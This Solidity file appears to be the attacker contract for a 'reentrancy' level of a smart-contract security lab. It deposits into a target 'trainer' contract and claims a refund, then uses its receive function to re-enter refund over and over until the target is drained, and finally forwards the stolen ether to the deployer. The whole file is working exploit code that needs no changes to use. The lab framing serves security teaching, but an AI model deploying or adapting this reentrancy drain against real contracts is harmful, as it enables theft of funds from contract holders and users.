// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

// ATTACK LAB ONLY: an attacker contract for the level "reentrancy". Never deploy it outside the lab.

/// @title IRefundable
/// @notice What `ReentrancyAttacker` needs from a lab trainer.
interface IRefundable {
    /// @notice Adds a sample with its label, paying the deposit.
    function addData(int64[] calldata x, uint64 label) external payable returns (uint256 id);
    /// @notice Refunds the deposit of the caller's contribution `id`.
    function refund(uint256 id) external returns (uint256 amount);
}

/// @title ReentrancyAttacker
/// @notice ATTACK LAB ONLY. Adds one honest contribution, then claims its refund; every time the
/// refund's ether arrives, `receive` asks for the same refund again, while the trainer can still pay.
contract ReentrancyAttacker {
    /// @notice The trainer under attack.
    IRefundable public immutable target;
    /// @notice Who deployed this contract and gets the loot.
    address public immutable attacker;
    /// @notice The id of this contract's contribution.
    uint256 public contributionId;
    /// @notice The deposit paid for it, in wei (what one refund pays).
    uint256 public deposit;
    /// @notice How many times the refund was paid.
    uint256 public timesPaid;

    /// @notice Only the deployer may do this.
    error NotAttacker(address caller);
    /// @notice Forwarding the loot failed.
    error ForwardFailed(uint256 amount);

    /// @notice This contract added contribution `id` with a deposit of `deposit` wei.
    event Contributed(uint256 id, uint256 deposit);
    /// @notice The refund of `amount` wei arrived (the `count`-th payment).
    event Received(uint256 amount, uint256 count);
    /// @notice `amount` wei were sent to the attacker.
    event Withdrawn(uint256 amount);

    /// @param target_ The trainer to attack.
    constructor(IRefundable target_) {
        target = target_;
        attacker = msg.sender;
    }

    /// @notice Step 1: add `x` with `label`, paying the deposit sent with this call (pick data the
    /// model agrees with, so the refund is allowed).
    /// @param x The encoded sample.
    /// @param label Its label.
    function contribute(int64[] calldata x, uint64 label) external payable {
        if (msg.sender != attacker) revert NotAttacker(msg.sender);
        deposit = msg.value;
        contributionId = target.addData{value: msg.value}(x, label);
        emit Contributed(contributionId, msg.value);
    }

    /// @notice Step 2 (after the refund wait): claim the refund; `receive` does the rest.
    function attack() external {
        if (msg.sender != attacker) revert NotAttacker(msg.sender);
        target.refund(contributionId);
    }

    /// @notice Step 3: send everything this contract holds to the attacker.
    function withdraw() external {
        if (msg.sender != attacker) revert NotAttacker(msg.sender);
        uint256 amount = address(this).balance;
        emit Withdrawn(amount);
        (bool ok,) = attacker.call{value: amount}("");
        if (!ok) revert ForwardFailed(amount);
    }

    /// @notice Called with every refund: asks for the same refund again while the trainer can pay it.
    receive() external payable {
        timesPaid += 1;
        emit Received(msg.value, timesPaid);
        if (address(target).balance >= deposit) target.refund(contributionId);
    }
}
